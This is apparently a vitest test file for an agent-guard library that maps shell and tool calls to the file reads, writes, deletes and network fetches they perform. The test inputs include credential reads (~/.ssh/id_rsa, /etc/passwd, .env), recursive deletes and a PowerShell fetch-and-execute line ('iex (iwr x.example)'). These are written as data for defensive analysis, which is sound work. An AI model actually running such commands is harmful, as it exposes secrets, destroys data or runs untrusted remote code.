import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { type Actions, actionsOf, type Look, type ToolRow } from 'hookline/guards'
import { describe, expect, it } from 'vitest'
import { formatActions, world } from './format-actions.ts'

const actionsOfCommand = (command: string, look: Look = world, tool = 'shell'): Actions =>
  actionsOf({ tool, input: { command }, cwd: '/w' }, { ...look })
const lines = (tool: string, input: Record<string, unknown>, row?: ToolRow): string[] =>
  formatActions(actionsOf({ tool, input, cwd: '/w' }, { ...world }, row))

/** The table: `$ command`, with `\n` for a new line, and below it one line for each action. */
const table = readFileSync(join(import.meta.dirname, 'actions.txt'), 'utf8')
  .split(/\n(?=\$ )/)
  .filter((block) => block.startsWith('$ '))
  .map((block) => {
    const [command = '', ...expected] = block.split('\n').filter((line) => line !== '' && !line.startsWith('##'))
    return { command: command.slice(2).replaceAll('\\n', '\n'), expected }
  })

describe('the actions of a command', () => {
  it.each(table)('$command', ({ command, expected }) => {
    expect(formatActions(actionsOfCommand(command)).map((line) => line.replaceAll('\n', '\\n'))).toEqual(expected)
  })

  it('in the sandbox are only what it runs', () => {
    expect(formatActions(actionsOfCommand('cat .env; curl x.example > y', world, 'bash'))).toEqual([
      'run    cat .env',
      'run    curl x.example  (redirection)',
    ])
  })

  it('start in the directory that the call names', () => {
    expect(lines('shell', { command: 'cat x', cwd: 'sub' })).toContain('read   /w/sub/x  (by 0)')
    expect(lines('shell', { command: 'cat x', cwd: '/tmp' })).toContain('read   /tmp/x  (by 0)')
  })
})

describe('without anything to look at', () => {
  const bare = (command: string) => formatActions(actionsOf({ tool: 'shell', input: { command } }, {}))

  it('paths stay relative, and ~ stays the home nobody knows', () => {
    expect(bare('cat a ../b ~/.ssh/id_rsa /etc/passwd')).toEqual([
      'run    cat a ../b ~/.ssh/id_rsa /etc/passwd',
      'read   a  (by 0)',
      'read   ../b  (by 0)',
      'read   ~/.ssh/id_rsa  (by 0)',
      'read   /etc/passwd  (by 0)',
    ])
  })

  it('branches and remotes are unknown, and what may be a branch may be a file', () => {
    expect(bare('git commit -m x')).toEqual(['run    git commit -m x  (branch …)'])
    expect(bare('git push')).toEqual(['run    git push  (branch …)', 'fetch  …  (sends, by 0)'])
    expect(bare('git checkout main && git commit')).toContain('run    git commit  (branch main or …)')
    expect(bare('cp a b')).toEqual(['run    cp a b', 'read   a  (by 0)', 'write  b  (by 0)', 'write  b/a  (by 0)'])
  })
})

describe('an unknown piece stays in its place', () => {
  it.each([
    ['cat "$F"', ['', '']],
    ['cat "$D/.env"', ['', '/.env']],
    ['cat src/"$F".ts', ['/w/src/', '.ts']],
    ['cat $(pick)/x', ['', '/x']],
    ['cat a/$X/../.env', ['', '/.env']],
    ['cd "$D" && cat x', ['', '/x']],
  ])('%s', (command, parts) => {
    const read = actionsOfCommand(command).actions.find(({ kind }) => kind === 'read')
    expect(read).toMatchObject({ paths: [{ parts }] })
  })

  it('what a shell pattern leaves open is the name of a file', () => {
    const [, action] = actionsOfCommand('cat lib/*.js').actions
    expect(action).toMatchObject({ paths: [{ parts: ['/w/lib/', '.js'], globbed: true }] })
  })
})

describe('the actions of a tool', () => {
  it.each<[string, Record<string, unknown>, string[]]>([
    ['read_file', { path: 'link/id_rsa' }, ['read   /w/link/id_rsa = /home/u/.ssh/id_rsa']],
    ['read_file', { path: '~/.ssh/id_rsa' }, ['read   /home/u/.ssh/id_rsa']],
    ['read_file', { path: 'file:///etc/passwd' }, ['read   /etc/passwd']],
    ['read_file', { path: 'a*b?' }, ['read   /w/a*b?']],
    ['read_file', { path: 7 }, ['read   …']],
    ['read_file', {}, ['read   /w']],
    ['read_multiple_files', { paths: ['a', '../x'] }, ['read   /w/a', 'read   /x']],
    ['write_file', { path: 'infra/new.tf', content: 'x' }, ['write  /w/infra/new.tf']],
    ['write_file', { content: 'x' }, ['write  …']],
    ['edit_file', { path: 'a', edits: [] }, ['write  /w/a']],
    ['delete_file', { path: './sub/../a' }, ['delete /w/a']],
    ['remove_directory', { path: 'dir' }, ['delete /w/dir  (and all below)']],
    ['directory_tree', { path: 'src' }, ['read   /w/src  (and all below)']],
    ['search_files_content', { query: 'x' }, ['read   /w  (and all below)']],
    ['fetch', { urls: ['https://A.example./x', 'http://0x7f000001/'] }, ['fetch  a.example', 'fetch  127.0.0.1']],
    ['fetch', {}, ['fetch  …']],
    ['web_search', { query: 'x' }, ['fetch  ']],
    ['send_message', { to: '#general', text: 'x' }, ['send   #general']],
    ['transfer_task', { agent: 'coder', task: 'x' }, ['spawn  coder']],
    ['nobody_knows', { path: '.env' }, []],
    ['mcp__fs__read_file', { path: '.env' }, ['call   fs read_file', 'read   /w/.env']],
    ['mcp__fs__writeFile', { filePath: 'x' }, ['call   fs writeFile', 'write  /w/x']],
    ['mcp__fs__delete', { paths: ['a', 'b'] }, ['call   fs delete', 'delete /w/a', 'delete /w/b']],
    ['mcp__fs__handle', { path: 'x' }, ['call   fs handle', 'read   /w/x', 'write  /w/x']],
    [
      'mcp__fs__move_file',
      { source: '/w/a', destination: '/w/c' },
      ['call   fs move_file', 'read   /w/a', 'delete /w/a', 'write  /w/c'],
    ],
    ['mcp__web__get', { url: 'https://X.example/' }, ['call   web get', 'fetch  x.example']],
    ['mcp__web__upload', { url: 'https://x.example/' }, ['call   web upload', 'fetch  x.example  (sends)']],
    ['mcp__sh__run', { command: 'rm a' }, ['call   sh run', 'run    rm a', 'delete /w/a  (by 1)']],
    ['mcp__mail__send', { to: 'me@example.com', body: 'see /etc/passwd' }, ['call   mail send']],
  ])('%s %o', (tool, input, expected) => {
    expect(lines(tool, input)).toEqual(expected)
  })

  it('follow from what a row says, for a tool that somebody declared', () => {
    const row: ToolRow = { doc: '', args: { where: 'writes', run: 'command' }, does: ['write'] }
    expect(lines('deploy', { where: 'infra', run: ['rm', 'my file'] }, row)).toEqual([
      'write  /w/infra',
      "run    rm 'my file'",
      'delete /w/my file  (by 1)',
    ])
  })
})

describe('PowerShell and cmd', () => {
  const row = (shell: 'powershell' | 'cmd'): ToolRow => ({
    doc: '',
    args: { command: 'command' },
    does: ['run'],
    shell,
  })
  it.each<['powershell' | 'cmd', string, string[]]>([
    ['powershell', 'Get-Content .env', ['run    get-content .env', 'read   /w/.env  (by 0)']],
    [
      'powershell',
      "Remove-Item -Recurse -Force 'my dir'",
      ['run    remove-item -Recurse -Force my dir', 'delete /w/my dir  (and all below, by 0)'],
    ],
    [
      'powershell',
      'rm -r src\\x; git status',
      ['run    rm -r src\\x', 'delete /w/src/x  (and all below, by 0)', 'run    git status'],
    ],
    [
      'powershell',
      'Set-Content -Path a.txt -Value hi',
      ['run    set-content -Path a.txt -Value hi', 'write  /w/a.txt  (by 0)'],
    ],
    [
      'powershell',
      'iwr https://X.example/a -OutFile a.ps1',
      ['run    iwr https://X.example/a -OutFile a.ps1', 'fetch  x.example  (by 0)', 'write  /w/a.ps1  (by 0)'],
    ],
    ['powershell', 'cat a > b', ['run    cat a  (redirection)', 'read   /w/a  (by 0)', 'write  /w/b']],
    [
      'powershell',
      'git push origin main',
      ['run    git push origin main  (branch main)', 'fetch  github.com  (sends, by 0)'],
    ],
    ['cmd', 'del /s /q dir', ['run    del /s /q dir', 'delete /w/dir  (and all below, by 0)']],
    [
      'cmd',
      'type .env & copy a b',
      [
        'run    type .env',
        'read   /w/.env  (by 0)',
        'run    copy a b',
        'read   /w/a  (and all below, by 2)',
        'write  /w/b  (and all below, by 2)',
      ],
    ],
  ])('%s: %s', (shell, command, expected) => {
    const found = actionsOf({ tool: 'x', input: { command }, cwd: '/w' }, { ...world }, row(shell))
    expect(formatActions(found)).toEqual(expected)
  })

  it.each(['iex (iwr x.example)', '& $x', 'if ($a) { rm b }', 'Start-Process rm', '"$(rm a)"', 'powershell -c "rm a"'])(
    'of %s there may be more',
    (command) => {
      expect(actionsOf({ tool: 'powershell', input: { command }, cwd: '/w' }, { ...world })).toMatchObject({
        complete: false,
        doubt: expect.any(String) as string,
      })
    },
  )
})
